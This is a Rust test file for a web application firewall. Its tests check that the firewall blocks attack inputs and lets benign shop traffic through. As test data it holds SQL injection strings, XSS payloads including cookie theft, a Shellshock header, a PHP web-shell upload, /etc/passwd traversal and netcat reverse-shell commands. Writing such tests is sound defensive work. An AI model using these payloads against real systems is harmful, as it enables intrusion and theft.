//! Whole-request tests: targets, modes, exclusions, `needs_body`.

use super::*;

fn req<'a>(
    path: &'a str,
    query: Option<&'a str>,
    headers: &'a [(&'a [u8], &'a [u8])],
    body: Option<Body<'a>>,
) -> RequestParts<'a> {
    RequestParts {
        method: b"GET",
        path: path.as_bytes(),
        query: query.map(str::as_bytes),
        headers,
        body,
    }
}

fn waf() -> Waf {
    Waf::new(WafConfig::default()).unwrap()
}

#[test]
fn each_target_is_inspected() {
    let w = waf();
    let v = w.inspect(&req("/p", Some("id=1%27%20or%20%271%27%3D%271"), &[], None));
    assert_eq!(v.findings()[0].location, "query:id");
    assert!(v.is_blocked());

    let h: &[(&[u8], &[u8])] = &[(b"Cookie", b"a=1; session=<script>alert(1)</script>")];
    let v = w.inspect(&req("/", None, h, None));
    assert_eq!(v.findings()[0].location, "cookie:session");

    let h: &[(&[u8], &[u8])] = &[(b"User-Agent", b"() { :;}; /bin/bash -c id")];
    assert_eq!(
        w.inspect(&req("/", None, h, None)).findings()[0].location,
        "header:user-agent"
    );

    let body = Body {
        content_type: b"application/json",
        bytes: br#"{"items":[{"comment":"<img src=x onerror=alert(1)>"}]}"#,
    };
    let v = w.inspect(&req("/api", None, &[], Some(body)));
    assert_eq!(v.findings()[0].location, "body:json:$.items[0].comment");

    let mp = b"--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--XX--\r\n";
    let body = Body {
        content_type: b"multipart/form-data; boundary=XX",
        bytes: mp,
    };
    let v = w.inspect(&req("/upload", None, &[], Some(body)));
    assert_eq!(
        v.findings().len(),
        1,
        "file contents are not read, the name is: {v:?}"
    );
    assert_eq!(v.findings()[0].location, "body:multipart-filename:f");

    let v = w.inspect(&req("/../../etc/passwd", None, &[], None));
    assert_eq!(v.findings()[0].group, Group::Lfi);
}

#[test]
fn benign_shop_request_passes() {
    let w = waf();
    let h: &[(&[u8], &[u8])] = &[
        (b"Host", b"shop.example"),
        (
            b"User-Agent",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            b"Referer",
            b"https://shop.example/search?q=O%27Brien+%26+Sons",
        ),
        (
            b"Cookie",
            b"sid=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_ghi; cart=3",
        ),
    ];
    let body = Body { content_type: b"application/x-www-form-urlencoded", bytes: b"name=Se%C3%A1n+O%27Brien&address=12+Main+St+%2342&review=%3Cb%3EGreat%3C%2Fb%3E+shoes%2C+5%2F5" };
    assert_eq!(
        w.inspect(&req(
            "/checkout",
            Some("utm_source=news&gclid=abc--def"),
            h,
            Some(body)
        )),
        Verdict::Allow
    );
}

#[test]
fn count_mode_reports_without_blocking_and_off_skips() {
    let mut c = WafConfig::default();
    c.set("sqli", "count").unwrap();
    c.set("xss", "off").unwrap();
    let w = Waf::new(c).unwrap();
    let v = w.inspect(&req(
        "/",
        Some("a=1%20union%20select%201&b=%3Cscript%3E"),
        &[],
        None,
    ));
    assert!(!v.is_blocked());
    assert_eq!(v.findings().len(), 1);
    assert_eq!(v.findings()[0].action, Action::Count);
}

#[test]
fn exclusions_by_group_and_by_target() {
    let mut c = WafConfig::default();
    c.exclusions
        .push(Exclusion::parse("/admin/editor", &["xss"], &["body:form:content"]).unwrap());
    c.exclusions
        .push(Exclusion::parse("/legacy", &["sqli"], &[]).unwrap());
    let w = Waf::new(c).unwrap();
    let body = Body {
        content_type: b"application/x-www-form-urlencoded",
        bytes: b"content=%3Cscript%3Ex()%3C%2Fscript%3E",
    };
    assert_eq!(
        w.inspect(&req("/admin/editor/save", None, &[], Some(body))),
        Verdict::Allow
    );
    let body = Body {
        content_type: b"application/x-www-form-urlencoded",
        bytes: b"title=%3Cscript%3Ex()%3C%2Fscript%3E",
    };
    assert!(
        w.inspect(&req("/admin/editor/save", None, &[], Some(body)))
            .is_blocked(),
        "other fields are still inspected"
    );
    assert_eq!(
        w.inspect(&req(
            "/legacy/x",
            Some("q=1%20union%20select%201"),
            &[],
            None
        )),
        Verdict::Allow
    );
    assert!(w
        .inspect(&req("/other", Some("q=1%20union%20select%201"), &[], None))
        .is_blocked());
}

#[test]
fn config_errors() {
    assert_eq!(
        Exclusion::parse("/x", &["sql"], &[]),
        Err(ConfigError::UnknownGroup("sql".into()))
    );
    assert!(matches!(
        Exclusion::parse("x", &[], &[]),
        Err(ConfigError::BadExclusion { .. })
    ));
    assert!(matches!(
        Exclusion::parse("/x", &[], &["bodies"]),
        Err(ConfigError::BadExclusion { .. })
    ));
    assert_eq!(
        WafConfig::default().set("xss", "log"),
        Err(ConfigError::UnknownMode("log".into()))
    );
    assert_eq!(
        ConfigError::UnknownGroup("sql".into()).to_string(),
        "unknown WAF rule group `sql`: use sqli, xss, lfi, rce or php"
    );
}

#[test]
fn needs_body_only_for_parsed_types_with_a_body() {
    let w = waf();
    let form: &[(&[u8], &[u8])] = &[
        (b"Content-Type", b"application/x-www-form-urlencoded"),
        (b"Content-Length", b"10"),
    ];
    assert!(w.needs_body(form, b"/"));
    let png: &[(&[u8], &[u8])] = &[(b"Content-Type", b"image/png"), (b"Content-Length", b"10")];
    assert!(!w.needs_body(png, b"/"));
    let empty: &[(&[u8], &[u8])] = &[
        (b"Content-Type", b"application/json"),
        (b"Content-Length", b"0"),
    ];
    assert!(!w.needs_body(empty, b"/"));
    let mut c = WafConfig::default();
    for g in Group::ALL {
        c.set(g.name(), "off").unwrap();
    }
    assert!(!Waf::new(c).unwrap().needs_body(form, b"/"));
}

#[test]
fn waf_is_shared_across_edge_workers() {
    fn send_sync<T: Send + Sync>() {}
    send_sync::<Waf>();
    send_sync::<Verdict>();
}

#[test]
fn a_body_past_the_limit_is_inspected_up_to_it() {
    let c = WafConfig {
        max_body_bytes: 16,
        ..WafConfig::default()
    };
    let w = Waf::new(c).unwrap();
    let body = Body {
        content_type: b"application/x-www-form-urlencoded",
        bytes: b"a=hello&pad=xxxxxxxxxxxx&b=1%27%20or%201%3D1--",
    };
    assert_eq!(
        w.inspect(&req("/", None, &[], Some(body))),
        Verdict::Allow,
        "the attack lies past 16 bytes"
    );
    let w = waf();
    assert!(w.inspect(&req("/", None, &[], Some(body))).is_blocked());
}

#[test]
fn a_cut_json_body_still_has_its_strings_inspected() {
    let w = waf();
    let body = Body {
        content_type: b"application/json",
        bytes: br##"{"a":"<script>alert(1)</script>","b":"#"##,
    };
    assert_eq!(
        w.inspect(&req("/", None, &[], Some(body))).findings()[0].group,
        Group::Xss
    );
}

#[test]
fn a_remembered_clean_value_does_not_hide_an_attack_elsewhere() {
    let w = waf();
    let ua: &[u8] = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let h: &[(&[u8], &[u8])] = &[(b"User-Agent", ua)];
    assert_eq!(
        w.inspect(&req("/", Some("q=shoes"), h, None)),
        Verdict::Allow
    );
    assert!(w
        .inspect(&req("/", Some("q=1%27%20or%20%271%27%3D%271"), h, None))
        .is_blocked());
    // An attack value is never remembered as clean, even when an exclusion let it pass.
    let mut c = WafConfig::default();
    c.exclusions
        .push(Exclusion::parse("/editor", &[], &["header:x-note"]).unwrap());
    let w = Waf::new(c).unwrap();
    let note: &[(&[u8], &[u8])] = &[(b"X-Note", b"<script>alert(document.cookie)</script>")];
    assert_eq!(w.inspect(&req("/editor", None, note, None)), Verdict::Allow);
    assert!(w.inspect(&req("/other", None, note, None)).is_blocked());
}

#[test]
fn mode_overrides_by_path_prefix() {
    let mut c = WafConfig::default();
    c.overrides
        .push(ModeOverride::parse("/api", "sqli", "count").unwrap());
    c.overrides
        .push(ModeOverride::parse("/api/admin", "sqli", "block").unwrap());
    c.overrides
        .push(ModeOverride::parse("/static", "xss", "off").unwrap());
    let w = Waf::new(c).unwrap();
    let q = Some("q=1%20union%20select%201");
    let v = w.inspect(&req("/api/items", q, &[], None));
    assert!(!v.is_blocked());
    assert_eq!(v.findings()[0].action, Action::Count);
    assert!(
        w.inspect(&req("/api/admin/users", q, &[], None))
            .is_blocked(),
        "the longest prefix wins"
    );
    assert!(w.inspect(&req("/shop", q, &[], None)).is_blocked());
    assert_eq!(
        w.inspect(&req("/static/x", Some("a=%3Cscript%3E"), &[], None)),
        Verdict::Allow
    );
    assert!(matches!(
        ModeOverride::parse("api", "sqli", "count"),
        Err(ConfigError::BadOverride { .. })
    ));
    assert_eq!(
        ModeOverride::parse("/a", "sqli", "warn"),
        Err(ConfigError::UnknownMode("warn".into()))
    );
}

#[test]
#[ignore = "timing, run by hand: cargo test --release -p berth-waf building_a_waf -- --ignored --nocapture"]
fn building_a_waf_is_cheap() {
    let t = std::time::Instant::now();
    for _ in 0..20 {
        std::hint::black_box(waf());
    }
    eprintln!("Waf::new: {} µs", t.elapsed().as_micros() / 20);
}

#[test]
fn entities_inside_entities_are_decoded_for_xss() {
    let w = waf();
    let body = Body {
        content_type: b"application/xml",
        bytes: b"<r><a p=\"&amp;lt;script&amp;gt;alert(1)\"/></r>",
    };
    assert_eq!(
        w.inspect(&req("/", None, &[], Some(body))).findings()[0].group,
        Group::Xss
    );
}

proptest::proptest! {
    #[test]
    fn a_path_taken_as_it_is_is_its_resolved_scope(
        path in "/[a-zA-Z0-9./%;\\\\_-]{0,24}"
    ) {
        proptest::prop_assert_eq!(
            &*super::scope_path(path.as_bytes()),
            &super::resolve_scope_path(path.as_bytes())[..]
        );
    }
}

#[test]
fn exclusions_match_the_resolved_path() {
    assert_eq!(
        &*super::scope_path(b"/admin/editor/../../search"),
        b"/search"
    );
    assert_eq!(
        &*super::scope_path(b"/admin/editor/%2e%2e/%2e%2e/search"),
        b"/search"
    );
    assert_eq!(&*super::scope_path(b"/a/./b/"), b"/a/b/");
    assert_eq!(&*super::scope_path(b"/../../x"), b"/x");
    assert_eq!(
        &*super::scope_path(b"/admin/editor/save"),
        b"/admin/editor/save"
    );
    let mut c = WafConfig::default();
    c.exclusions
        .push(Exclusion::parse("/admin/editor", &[], &[]).unwrap());
    let w = Waf::new(c).unwrap();
    let q = Some("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert_eq!(
        w.inspect(&req("/admin/editor/save", q, &[], None)),
        Verdict::Allow
    );
    assert!(
        w.inspect(&req("/admin/editor/../../search", q, &[], None))
            .is_blocked(),
        "a climb out of an excluded prefix is not excluded"
    );
}

/// A value that is one word is no command line, even when the word names a tool: `NC` is a
/// state, `r2` a product or a release name. With arguments or a shell around it, it is.
#[test]
fn lone_words_that_name_tools_are_not_commands() {
    let waf = Waf::new(WafConfig::default()).unwrap();
    for value in ["nc", "NC", "r2", "ncat", "socat"] {
        let query = format!("state={value}");
        let verdict = waf.inspect(&RequestParts {
            method: b"GET",
            path: b"/checkout",
            query: Some(query.as_bytes()),
            headers: &[],
            body: None,
        });
        assert!(!verdict.is_blocked(), "{value}: {verdict:?}");
    }
    for value in ["nc%20-e%20/bin/sh%2010.0.0.1%204444", "x;nc%20-lvp%204444"] {
        let query = format!("state={value}");
        let verdict = waf.inspect(&RequestParts {
            method: b"GET",
            path: b"/checkout",
            query: Some(query.as_bytes()),
            headers: &[],
            body: None,
        });
        assert!(verdict.is_blocked(), "{value}: {verdict:?}");
    }
}

#[test]
fn path_segments_with_plus_blanks_are_read_as_sql_too() {
    let w = waf();
    let v = w.inspect(&req(
        "/item/7'+union+all+select+9,8+from+t",
        None,
        &[],
        None,
    ));
    assert_eq!(v.findings()[0].group, Group::Sqli, "{v:?}");
    assert_eq!(v.findings()[0].location, "path");
    for p in [
        "/c++/books",
        "/q/rock+'n'+roll",
        "/tags/o'brien+family",
        "/search/union+station+select+a+size",
    ] {
        assert!(!w.inspect(&req(p, None, &[], None)).is_blocked(), "{p}");
    }
}

#[test]
fn xml_values_are_entity_decoded_as_a_parser_would() {
    let w = waf();
    let xml = |b: &'static [u8]| Body {
        content_type: b"application/xml",
        bytes: b,
    };
    let v = w.inspect(&req(
        "/api",
        None,
        &[],
        Some(xml(
            b"<order><note x=\"7 AS &quot;n&quot; FROM orders\">a</note></order>",
        )),
    ));
    assert_eq!(v.findings()[0].group, Group::Sqli, "{v:?}");
    let v = w.inspect(&req(
        "/api",
        None,
        &[],
        Some(xml(b"<q>x&#39; UNION SELECT pass FROM users--</q>")),
    ));
    assert!(v.is_blocked(), "{v:?}");
    for b in [
        &b"<name>O&apos;Brien &amp; Sons</name>"[..],
        b"<desc>Size &quot;M&quot; &lt; 50 cm, select a colour</desc>",
        b"<addr city=\"Union Station &amp; Co\">Drop-off #4</addr>",
    ] {
        let v = w.inspect(&req("/api", None, &[], Some(xml(b))));
        assert!(!v.is_blocked(), "{}: {v:?}", String::from_utf8_lossy(b));
    }
}

/// Syntax rarer than the XSS detector's usual triggers (`<`, `=`, `(`...) still reaches it: a
/// DTD entity declaration, an HTML comment's end, a module import.
#[test]
fn rare_markup_syntax_reaches_the_xss_detector() {
    let w = waf();
    for ua in [
        &b"foo!ENTITY % bar SYSTEM"[..],
        b"--> hello",
        b"import {a} from './x.js'",
    ] {
        let h: &[(&[u8], &[u8])] = &[(b"User-Agent", ua)];
        let v = w.inspect(&req("/", None, h, None));
        assert!(
            v.findings().iter().any(|f| f.group == Group::Xss),
            "{}: {v:?}",
            String::from_utf8_lossy(ua)
        );
    }
    for ua in [
        &b"Wow! Entity systems"[..],
        b"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/133.0",
        b"I'd import it from Italy",
    ] {
        let h: &[(&[u8], &[u8])] = &[(b"User-Agent", ua)];
        let v = w.inspect(&req("/", None, h, None));
        assert!(!v.is_blocked(), "{}: {v:?}", String::from_utf8_lossy(ua));
    }
}

/// A name with an encoded `=` and `&` (`a%3D1%26b%3D2`) is split into parameters as a backend
/// that decodes twice does, and a multi-valued cookie (`a=1&b=2`) into its sub-values.
#[test]
fn double_decoded_names_and_multi_valued_cookies_are_split() {
    let w = waf();
    let v = w.inspect(&req("/p", Some("x%3D1%26y%3D%27-%27"), &[], None));
    assert!(v.is_blocked(), "{v:?}");
    let h: &[(&[u8], &[u8])] = &[(b"Cookie", b"prefs=a=1&b=!@#$%^&*")];
    assert!(w.inspect(&req("/", None, h, None)).is_blocked());
    let h: &[(&[u8], &[u8])] = &[(b"Cookie", b"prefs=lang=en&cur=EUR&size=M")];
    assert!(!w.inspect(&req("/", None, h, None)).is_blocked());
    let v = w.inspect(&req("/p", Some("x%3D1%26y%3Dred%20shoes"), &[], None));
    assert!(!v.is_blocked(), "{v:?}");
}

#[test]
fn sql_in_a_path_segment_is_read_where_the_segment_goes() {
    let w = waf();
    for p in [
        "/item/1%20or%201=1--",
        "/get/OR%20%27%7B%22b%22%3A2%7D%27%3A%3Ajsonb%20%3F%20%27a%27",
        "/api/v1/users/1;select%20pg_sleep(5)",
        "/product/5%20and%20(select%201)=1/reviews",
    ] {
        let v = w.inspect(&req(p, None, &[], None));
        assert!(
            v.findings().iter().any(|f| f.group == Group::Sqli),
            "missed: {p}"
        );
    }
    for p in [
        "/search/rock%20'n'%20roll",
        "/blog/2024/05/10-or-12-things",
        "/products/size%2010%20or%2012",
        "/wiki/Rock%20%27n%27%20Roll%20or%20jazz",
        "/docs/a%20=%20b%20and%20c",
        "/static/app.min.js",
    ] {
        let v = w.inspect(&req(p, None, &[], None));
        assert!(
            !v.findings().iter().any(|f| f.group == Group::Sqli),
            "false positive: {p}: {:?}",
            v.findings()
        );
    }
}

#[test]
fn line_breaks_and_latin1_blanks_separate_sql_words() {
    let w = waf();
    for q in [
        "q=1%0aunion%0aselect%0a1",
        "q=1%0dunion%0dselect%0d1",
        "q=1%a0union%a0select%a01,2",
        "q=1%a0and%a01=1",
    ] {
        let v = w.inspect(&req("/s", Some(q), &[], None));
        assert_eq!(
            v.findings().first().map(|f| f.group),
            Some(Group::Sqli),
            "{q}"
        );
    }
    for q in ["q=caf%C3%A9%0Aau%20lait", "q=line%20one%0Aline%20two%0D%0A"] {
        assert!(
            !w.inspect(&req("/s", Some(q), &[], None)).is_blocked(),
            "{q}"
        );
    }
}
